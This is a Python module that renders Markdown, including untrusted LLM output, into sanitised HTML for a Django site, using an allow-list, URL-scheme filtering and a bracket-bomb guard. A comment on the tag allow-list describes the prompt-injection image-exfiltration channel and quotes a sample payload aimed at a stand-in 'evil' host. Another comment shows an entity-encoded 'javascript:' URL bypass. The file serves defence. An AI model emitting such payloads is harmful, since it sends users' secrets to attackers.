"""The site's one Markdown renderer.

Everything that turns Markdown into HTML goes through this module: editorial
model profiles and verdicts (trusted authors) as well as the live testbench,
which shows *untrusted* LLM output. So there is a single pipeline, and it is
built for the untrusted case:

1. Python-Markdown renders the text with ``tables``, ``fenced_code``,
   ``sane_lists`` and ``toc`` (heading ids and a permalink anchor).
   Raw HTML support is switched off: the ``html_block`` preprocessor and the
   ``html`` inline pattern are removed, so ``<script>`` in the source comes
   out as the visible text ``&lt;script&gt;`` instead of markup.
   Headings are renumbered so that the top-most one becomes ``<h2>`` (the page
   template owns ``<h1>``), or the level the caller gives (``top_level``: a verdict's
   body under its ``<h3>`` starts at ``<h4>``), images become plain links (see
   :data:`ALLOWED_TAGS`), and blocks full of ``[`` skip inline parsing (see
   :data:`MAX_BRACKETS_PER_BLOCK`).
2. nh3 (ammonia) then sanitises the HTML against an explicit allow-list
   (:data:`ALLOWED_TAGS`, :data:`ALLOWED_ATTRIBUTES`, :data:`ALLOWED_URL_SCHEMES`),
   adds ``rel="nofollow noopener noreferrer"`` to links, and an attribute filter
   re-checks every URL and every constrained attribute value.

Step 2 is the security boundary; step 1 only makes the result pleasant (raw
HTML shows as text rather than vanishing).

Public API:

* :func:`render_markdown` -- pure function, no Django needed.
* :func:`render_markdown_cached` -- same, memoised in Django's default cache.
* :func:`markdown_html` -- returns a ``SafeString`` for templates.

This module imports no Django at import time; the two Django-facing helpers
import what they need lazily.
"""

from __future__ import annotations

import hashlib
import html
import logging
import re
import threading
import xml.etree.ElementTree as etree
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

import markdown
import nh3
from markdown.extensions import Extension
from markdown.extensions.toc import slugify_unicode
from markdown.treeprocessors import Treeprocessor
from markdown.util import AtomicString

if TYPE_CHECKING:  # pragma: no cover
    from django.utils.safestring import SafeString

__all__ = [
    "ALLOWED_ATTRIBUTES",
    "ALLOWED_TAGS",
    "ALLOWED_URL_SCHEMES",
    "LINK_REL",
    "MAX_BRACKETS_PER_BLOCK",
    "RENDERER_VERSION",
    "SITE_ID_PREFIX",
    "RenderedMarkdown",
    "TocEntry",
    "markdown_html",
    "render_markdown",
    "render_markdown_cached",
]

logger = logging.getLogger(__name__)

#: Bump whenever the output for a given input may change (extensions, allow-list,
#: heading policy...). It is part of the cache key, so a bump invalidates every
#: cached rendering at once.
RENDERER_VERSION = "3"

#: How long a rendering stays in the cache. Keys are content-addressed
#: (sha256 of the text + RENDERER_VERSION), so entries never go stale; the
#: timeout only bounds memory.
CACHE_TIMEOUT_SECONDS = 7 * 24 * 3600

_CACHE_KEY_PREFIX = "tokonomix:markdown"

# --------------------------------------------------------------------------- #
# Allow-list
# --------------------------------------------------------------------------- #

#: Tags that may appear in rendered output. Exactly what the enabled Markdown
#: features produce, nothing more:
#:
#: * no ``h1`` -- the page template owns it; headings are renumbered to start at h2;
#: * no ``img`` -- the renderer also shows untrusted LLM output, and an image
#:   with an attacker-chosen ``src`` loads automatically, which is the classic
#:   prompt-injection data-exfiltration channel (``![](https://evil/?q=secret)``)
#:   and a tracking pixel. Markdown images are turned into ordinary links
#:   instead; editorial images belong in templates/static files;
#: * no ``div``/``span`` (nothing needs them), no ``del``/``sup`` etc. (no
#:   extension produces them).
ALLOWED_TAGS: frozenset[str] = frozenset(
    {
        "p",
        "br",
        "hr",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "strong",
        "em",
        "code",
        "pre",
        "blockquote",
        "ul",
        "ol",
        "li",
        "a",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    }
)

#: Attributes allowed per tag. ``rel`` on ``a`` is *not* listed: nh3 sets it
#: itself (``link_rel``) and would refuse both at once.
#:
#: * ``a``: ``href`` (scheme-checked), ``title`` (Markdown link titles),
#:   ``class`` only with the value ``headerlink`` (the heading permalink);
#: * ``h2``-``h6``: ``id`` (slugified by the toc extension; the anchor target);
#: * ``code``: ``class`` only as ``language-xxx`` (fenced code info string,
#:   for client-side syntax highlighting);
#: * ``ol``: ``start`` only as an integer (``sane_lists`` numbered lists that
#:   don't start at 1).
#:
#: Table cell alignment (``style="text-align: ..."``) is deliberately dropped.
ALLOWED_ATTRIBUTES: dict[str, frozenset[str]] = {
    "a": frozenset({"href", "title", "class"}),
    "h2": frozenset({"id"}),
    "h3": frozenset({"id"}),
    "h4": frozenset({"id"}),
    "h5": frozenset({"id"}),
    "h6": frozenset({"id"}),
    "code": frozenset({"class"}),
    "ol": frozenset({"start"}),
}

#: Absolute URLs must use one of these; relative URLs (``/models/x``, ``#id``,
#: ``../y``, ``?q=1``) are kept.
ALLOWED_URL_SCHEMES: frozenset[str] = frozenset({"http", "https", "mailto"})

#: Added by nh3 to every ``<a href>``.
LINK_REL = "nofollow noopener noreferrer"

#: Elements removed together with their content (defence in depth: raw HTML is
#: already escaped before it gets here).
_CLEAN_CONTENT_TAGS = frozenset({"script", "style"})

_PERMALINK_CLASS = "headerlink"
_CODE_CLASS_RE = re.compile(r"language-[A-Za-z0-9_+#.-]{1,40}")
_OL_START_RE = re.compile(r"[0-9]{1,9}")
# A URL scheme as browsers parse it: letter, then letters/digits/+/-/. up to ':'.
_SCHEME_RE = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")
# Browsers remove ASCII tab/LF/CR anywhere in a URL and strip leading/trailing
# C0 controls and spaces; we are stricter and drop every control, whitespace
# and invisible formatting character anywhere before looking for a scheme.
_URL_JUNK_RE = re.compile(
    r"[\x00-\x20\x7f-\x9f\u00a0\u00ad\u1680\u180e\u2000-\u200f\u2028-\u202f"
    r"\u205f-\u2064\u3000\ufeff]|\s"
)


def _scheme_is_allowed(value: str) -> bool:
    compact = _URL_JUNK_RE.sub("", value)
    match = _SCHEME_RE.match(compact)
    if match is None:
        # No scheme: relative URL. A ':' later on (after '/', '?' or '#') is fine.
        return True
    return match.group(1).lower() in ALLOWED_URL_SCHEMES


def _url_is_allowed(value: str) -> bool:
    """True if ``value`` is relative or uses an allowed scheme.

    ``value`` arrives entity-decoded (nh3 parses the HTML first), which is
    what a browser sees. To be safe against anything downstream that decodes
    once more (feeds, JS copying attributes into markup...), the value must
    also pass after further rounds of entity decoding: ``&amp;#106;avascript:``
    is a harmless relative URL to a browser, but it is dropped anyway.
    """
    for _ in range(4):
        if not _scheme_is_allowed(value):
            return False
        decoded = html.unescape(value)
        if decoded == value:
            return True
        value = decoded
    return False  # still changing after several rounds: not a real URL


def _attribute_filter(tag: str, attr: str, value: str) -> str | None:
    """nh3 attribute filter: constrain values; ``None`` drops the attribute."""
    if attr in ("href", "src"):
        return value if _url_is_allowed(value) else None
    if attr == "class":
        if tag == "a":
            return value if value == _PERMALINK_CLASS else None
        if tag == "code":
            return value if _CODE_CLASS_RE.fullmatch(value) else None
        return None
    if attr == "start":
        return value if _OL_START_RE.fullmatch(value) else None
    return value


_CLEANER = nh3.Cleaner(
    tags=set(ALLOWED_TAGS),
    clean_content_tags=set(_CLEAN_CONTENT_TAGS),
    attributes={tag: set(attrs) for tag, attrs in ALLOWED_ATTRIBUTES.items()},
    attribute_filter=_attribute_filter,
    strip_comments=True,
    link_rel=LINK_REL,
    url_schemes=set(ALLOWED_URL_SCHEMES),
    url_relative="pass_through",
)

# --------------------------------------------------------------------------- #
# Python-Markdown configuration
# --------------------------------------------------------------------------- #

_HEADING_RE = re.compile(r"h[1-6]")
_TOP_HEADING_LEVEL = 2


class _NormaliseHeadingsTreeprocessor(Treeprocessor):
    """Shift heading levels so the highest one in the document becomes <h2> (or the
    `top_level` the caller asked for: text shown under a section's own heading).

    ``# A`` / ``## B`` render as h2/h3, and a document that only uses ``###``
    renders as h2: relative structure is kept, ``h1`` never appears and the
    outline under the page's ``<h1>`` has no gap. Levels are capped at h6.
    """

    def run(self, root: etree.Element) -> None:
        headings = [
            el for el in root.iter() if isinstance(el.tag, str) and _HEADING_RE.fullmatch(el.tag)
        ]
        if not headings:
            return
        top = getattr(self.md, "tokonomix_top_level", _TOP_HEADING_LEVEL)
        shift = top - min(int(el.tag[1]) for el in headings)
        if shift == 0:
            return
        for el in headings:
            el.tag = f"h{min(6, int(el.tag[1]) + shift)}"


class _ImagesToLinksTreeprocessor(Treeprocessor):
    """Replace ``<img src alt title>`` with ``<a href title>alt</a>``.

    Images are not in the allow-list (see :data:`ALLOWED_TAGS`); a link keeps
    the information without the automatic request. An image that is already
    inside a link (``[![badge](img.png)](https://x)``) becomes just its alt
    text, since links cannot nest.
    """

    def run(self, root: etree.Element) -> None:
        images_in_links = {img for a in root.iter("a") for img in a.iter("img")}
        for el in list(root.iter("img")):
            src = el.get("src", "")
            alt = el.get("alt", "") or "image"
            title = el.get("title")
            tail = el.tail
            el.clear()
            el.text = alt
            el.tail = tail
            if el in images_in_links:
                el.tag = "span"  # not allowed: nh3 unwraps it, keeping the text
                continue
            el.tag = "a"
            el.set("href", src)
            if title:
                el.set("title", title)


#: A block with more ``[`` than this is shown as plain text, without inline
#: Markdown. Python-Markdown's link matching is quadratic in the number of
#: unclosed brackets in one block (upstream issue Python-Markdown/markdown#798:
#: ``"[" * 20000`` takes about a minute), and the testbench renders untrusted
#: LLM output. At this limit the worst case is a few hundred ms per block.
MAX_BRACKETS_PER_BLOCK = 200


class _BracketBombTreeprocessor(Treeprocessor):
    """Protect the inline processor from bracket bombs (see above)."""

    def run(self, root: etree.Element) -> None:
        for el in root.iter():
            for attr in ("text", "tail"):
                value = getattr(el, attr)
                if (
                    value
                    and not isinstance(value, AtomicString)
                    and value.count("[") > MAX_BRACKETS_PER_BLOCK
                ):
                    setattr(el, attr, AtomicString(value))


class _TokonomixExtension(Extension):
    """No raw HTML, heading renumbering, images as links, bracket-bomb guard."""

    def extendMarkdown(self, md: markdown.Markdown) -> None:
        md.registerExtension(self)
        # Raw HTML is not markup: block HTML becomes a paragraph of text and
        # inline tags stay as text, which the serializer escapes. Entities
        # (the 'entity' pattern) are harmless and stay.
        md.preprocessors.deregister("html_block")
        md.inlinePatterns.deregister("html")
        # Before 'inline' (20), which is where the quadratic matching happens.
        md.treeprocessors.register(_BracketBombTreeprocessor(md), "tokonomix_brackets", 25)
        # After 'inline' (20) has created <img>, before 'toc' (5) assigns ids.
        md.treeprocessors.register(_ImagesToLinksTreeprocessor(md), "tokonomix_images", 8)
        md.treeprocessors.register(_NormaliseHeadingsTreeprocessor(md), "tokonomix_headings", 7)


#: Element ids that start with this belong to the site's templates (a chart's data element:
#: ``tx-chart-price``), so no heading may take one: the renderer strips the prefix from
#: heading ids. Otherwise a reviewed FAQ answer headed "Tx chart price" would get the
#: chart's id, and charts.js, which finds its data with getElementById, would read it.
SITE_ID_PREFIX = "tx-"


def _slugify(value: str, separator: str) -> str:
    # Unicode-aware so non-Latin headings get meaningful ids; never empty, never the site's.
    slug = slugify_unicode(value, separator)
    while slug.startswith(SITE_ID_PREFIX):
        slug = slug.removeprefix(SITE_ID_PREFIX).lstrip(separator)
    return slug or "section"


def _new_markdown() -> markdown.Markdown:
    return markdown.Markdown(
        extensions=[
            "tables",
            "fenced_code",
            "sane_lists",
            "toc",
            _TokonomixExtension(),
        ],
        extension_configs={
            "toc": {
                "marker": "",  # no [TOC] placeholder expansion
                "permalink": True,  # <a class="headerlink" href="#id">¶</a>
                "permalink_class": _PERMALINK_CLASS,
                "permalink_title": "Permanent link",
                "slugify": _slugify,
            }
        },
        output_format="html",
    )


# Markdown instances are stateful and not thread-safe: one per thread, reset
# before each use.
_local = threading.local()


def _markdown() -> markdown.Markdown:
    md: markdown.Markdown | None = getattr(_local, "md", None)
    if md is None:
        md = _new_markdown()
        _local.md = md
    return md.reset()


# --------------------------------------------------------------------------- #
# Public API
# --------------------------------------------------------------------------- #


@dataclass(frozen=True, slots=True)
class TocEntry:
    """One heading of the rendered document.

    ``title`` is plain text (not HTML): templates must escape it, which Django
    autoescaping does. ``id`` is the heading's ``id`` attribute, so
    ``#{id}`` links to it.
    """

    level: int  # 2..6, the rendered heading level
    id: str
    title: str


@dataclass(frozen=True, slots=True)
class RenderedMarkdown:
    """Output of :func:`render_markdown`. ``html`` is already sanitised."""

    html: str
    toc: list[TocEntry] = field(default_factory=list)


def _flatten_toc(tokens: list[dict[str, Any]], out: list[TocEntry]) -> list[TocEntry]:
    for token in tokens:
        out.append(
            TocEntry(
                level=int(token["level"]),
                id=str(token["id"]),
                # 'name' is the heading's inner HTML with tags stripped, i.e.
                # escaped text; turn it into plain text.
                title=html.unescape(str(token["name"])),
            )
        )
        _flatten_toc(token.get("children", []), out)
    return out


def _without_lone_surrogates(text: str) -> str:
    """Replace lone surrogates (e.g. from JSON ``"\\ud800"``) with U+FFFD.

    nh3 (Rust) cannot accept them and would raise.
    """
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")
    return text


def render_markdown(text: str, *, top_level: int = _TOP_HEADING_LEVEL) -> RenderedMarkdown:
    """Render Markdown to sanitised HTML plus a table of contents.

    Safe for untrusted input (LLM output): the returned ``html`` only contains
    :data:`ALLOWED_TAGS` with :data:`ALLOWED_ATTRIBUTES`, and links only use
    :data:`ALLOWED_URL_SCHEMES` or are relative.
    """
    text = _without_lone_surrogates(text)
    md = _markdown()
    # The level its top-most heading takes: h2 under the page's h1, lower under a section.
    md.tokonomix_top_level = min(6, max(_TOP_HEADING_LEVEL, top_level))  # type: ignore[attr-defined]
    raw_html = md.convert(text)
    toc = _flatten_toc(getattr(md, "toc_tokens", []), [])
    clean_html = _CLEANER.clean(raw_html)
    return RenderedMarkdown(html=clean_html, toc=toc)


def _cache_key(text: str, top_level: int = _TOP_HEADING_LEVEL) -> str:
    digest = hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()
    return f"{_CACHE_KEY_PREFIX}:v{RENDERER_VERSION}:h{top_level}:{digest}"


def render_markdown_cached(text: str, *, top_level: int = _TOP_HEADING_LEVEL) -> RenderedMarkdown:
    """:func:`render_markdown`, memoised in Django's default cache.

    The key is ``sha256(text)`` plus :data:`RENDERER_VERSION`. If the cache
    backend fails (e.g. Redis is down) the text is rendered uncached rather
    than failing the page.
    """
    from django.core.cache import cache  # lazy: keep this module Django-free

    key = _cache_key(text, top_level)
    try:
        cached = cache.get(key)
    except Exception:  # cache outage must not break pages
        logger.warning("markdown cache get failed", exc_info=True)
        cached = None
    if isinstance(cached, RenderedMarkdown):
        return cached

    rendered = render_markdown(text, top_level=top_level)
    try:
        cache.set(key, rendered, timeout=CACHE_TIMEOUT_SECONDS)
    except Exception:
        logger.warning("markdown cache set failed", exc_info=True)
    return rendered


def markdown_html(text: str, *, top_level: int = _TOP_HEADING_LEVEL) -> SafeString:
    """Render Markdown and mark the sanitised HTML safe for templates.

    This is intended to be the ONLY place in the project that calls
    ``mark_safe``: everything that needs to put user-, editor- or LLM-written
    content into a page as HTML must come through here, so that the
    sanitiser in :func:`render_markdown` is always applied. Do not add other
    ``mark_safe``/``|safe`` uses; call this (or a template filter wrapping it).
    """
    from django.utils.safestring import mark_safe  # lazy: keep this module Django-free

    return mark_safe(render_markdown_cached(text, top_level=top_level).html)  # noqa: S308 -- sanitised by nh3
